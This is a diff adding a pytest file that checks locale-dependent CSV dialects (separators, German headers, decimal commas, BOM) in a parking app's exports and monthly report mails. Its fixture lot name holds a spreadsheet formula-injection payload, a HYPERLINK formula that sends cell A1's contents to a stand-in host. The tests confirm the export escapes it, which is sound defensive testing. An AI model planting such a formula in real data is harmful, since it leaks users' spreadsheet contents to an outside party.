@@ -1,0 +1,134 @@
+"""Case 14: which dialect a file has, by who asks, where and how."""
+
+import csv
+import io
+from datetime import timedelta
+
+import pytest
+
+from parking import clock
+from parking.accounts.models import User
+from parking.database import db
+from parking.exports import build, files
+from parking.exports.columns import BOOKING_HEADER
+from parking.mail.models import OutboxMail
+from parking.reports import schedule
+from tests.conftest import make_user
+from tests.exports.stage import make_lot, stay
+
+NAME = 'Süd;=HYPERLINK("http://x.example/?"&A1;"open")'
+
+
+@pytest.fixture
+def german(app, alice):
+    db.session.get(User, alice.id).locale = "de"
+    db.session.commit()
+    lot = make_lot(NAME)
+    stay(alice, lot, clock.now() - timedelta(days=1), 1.5, cost=375)
+    return alice
+
+
+def rows_of(data, separator):
+    text = data.decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
+
+
+@pytest.fixture
+def exported(client, auth, german):
+    """The file that an order of POST /api/exports makes, and the answer to it."""
+
+    def export(**body):
+        answer = client.post("/api/exports", json={"kind": "bookings", **body}, headers=auth(german))
+        assert answer.status_code == 202, answer.json
+        build.run(answer.json["export"]["id"])
+        done = client.get(f"/api/exports/{answer.json['export']['id']}", headers=auth(german)).json["export"]
+        return client.get(done["download_url"], headers=auth(german)).data, done
+
+    return export
+
+
+def test_a_german_account_gets_a_german_file(exported):
+    data, done = exported()
+    assert done["format"] == "semicolon"
+    assert data.startswith(b"\xef\xbb\xbf")
+    heading, line = rows_of(data, ";")
+    cells = dict(zip(heading, line, strict=True))
+    assert heading[:4] == ["ID", "Buchungsnummer", "Parkplatz", "Stellplatz"]
+    assert cells["Parkplatz"] == NAME.replace("=", "'=")
+    assert (cells["Preis pro Stunde"], cells["Gesamtpreis"], cells["Dauer (Stunden)"]) == ("2,50", "3,75", "1,5")
+    assert (cells["Beginn"], cells["Zeitzone"]) == ("2026-03-01 13:00:00", "Europe/Berlin")
+
+
+@pytest.mark.parametrize(
+    ("form", "separator", "start", "cost"),
+    [
+        ("machine", ",", "2026-03-01T13:00:00+01:00", "3.75"),
+        ("comma", ",", "2026-03-01 13:00:00", "3.75"),
+        ("semicolon", ";", "2026-03-01 13:00:00", "3,75"),
+    ],
+)
+def test_another_format_may_be_asked_for(exported, form, separator, start, cost):
+    data, done = exported(format=form)
+    heading, line = rows_of(data, separator)
+    assert done["format"] == form
+    assert (line[BOOKING_HEADER.index("start_time")], line[BOOKING_HEADER.index("total_cost")]) == (start, cost)
+    assert (tuple(heading) == BOOKING_HEADER) == (form == "machine")
+
+
+def test_another_format_is_another_file(exported, client, auth, german):
+    first = client.post("/api/exports", json={"format": "comma"}, headers=auth(german)).json["export"]["id"]
+    same = client.post("/api/exports", json={"format": "comma"}, headers=auth(german)).json["export"]["id"]
+    other = client.post("/api/exports", json={"format": "machine"}, headers=auth(german)).json["export"]["id"]
+    assert first == same != other
+
+
+@pytest.mark.parametrize("path", ["/api/export", "/api/stats/admin.csv?from=2026-03-01&to=2026-03-01"])
+def test_an_unknown_format_is_refused(client, auth, german, carol, path):
+    answer = client.get(path, query_string={"format": "excel"} if "?" not in path else None, headers=auth(carol))
+    if "?" in path:
+        answer = client.get(f"{path}&format=excel", headers=auth(carol))
+    assert answer.status_code == 422
+    assert client.post("/api/exports", json={"format": "xlsx"}, headers=auth(german)).status_code == 422
+
+
+def test_the_clients_way_keeps_its_columns(client, auth, german):
+    """`Accept: text/csv` is the contract's; by mail the file is for a person."""
+    answer = client.get("/api/export", headers=auth(german, Accept="text/csv"))
+    assert tuple(rows_of(answer.data, ",")[0]) == BOOKING_HEADER
+    asked = client.get("/api/export?format=auto", headers=auth(german, Accept="text/csv"))
+    assert rows_of(asked.data, ";")[0][0] == "ID"
+    assert client.get("/api/export", headers=auth(german)).json["export"]["format"] == "semicolon"
+
+
+def test_figures_follow_the_account_at_their_csv_address_only(client, auth, german):
+    path = "/api/stats/user{}?month=2026-03"
+    person = client.get(path.format(".csv"), headers=auth(german)).data
+    assert rows_of(person, ";") == [
+        ["Parkplatz-ID", "Name", "Besuche", "Geparkt (Sekunden)", "Ausgegeben (EUR)"],
+        ["1", NAME.replace("=", "'="), "1", "5400", "3,75"],
+    ]
+    program = client.get(path.format(""), headers=auth(german, Accept="text/csv")).data
+    assert rows_of(program, ",")[0] == ["lot_id", "name", "visits", "parked_seconds", "spent_EUR"]
+    assert client.get(path.format(".csv") + "&format=machine", headers=auth(german)).data == program
+
+
+def test_what_reports_bring_is_in_the_language_of_each_reader(app, german, carol):
+    """Two administrators of two languages: each gets both files in their own dialect; so does the driver."""
+    chief = make_user("chief", "user", "admin")
+    db.session.get(User, chief.id).locale = "de"
+    db.session.commit()
+    clock.travel(31 * 86_400)
+    schedule.send_now(["admin_monthly_report", "user_monthly_report"], force=True)
+    schedule.work_off()
+    db.session.rollback()
+    attached = {}
+    for letter in db.session.query(OutboxMail).filter(OutboxMail.kind.like("%_monthly_report")):
+        for file in letter.attachments:
+            text = file.get("text") or files.absolute(file["path"]).read_text("utf-8")
+            attached[letter.user_id, letter.kind, file["filename"]] = text.lstrip("\ufeff").split("\r\n")[0]
+    admin = "admin_monthly_report"
+    assert attached[chief.id, admin, "lots_2026-03.csv"].startswith('"Parkplatz-ID";"Parkplatz";"Buchungen"')
+    assert attached[chief.id, admin, "bookings_2026-03.csv"].startswith('"ID";"Buchungsnummer"')
+    assert attached[carol.id, admin, "lots_2026-03.csv"].startswith('"lot_id","lot_name","bookings"')
+    assert attached[carol.id, admin, "bookings_2026-03.csv"].startswith('"id","reference"')
+    assert attached[german.id, "user_monthly_report", "bookings_2026-03.csv"].startswith('"ID";"Buchungsnummer"')
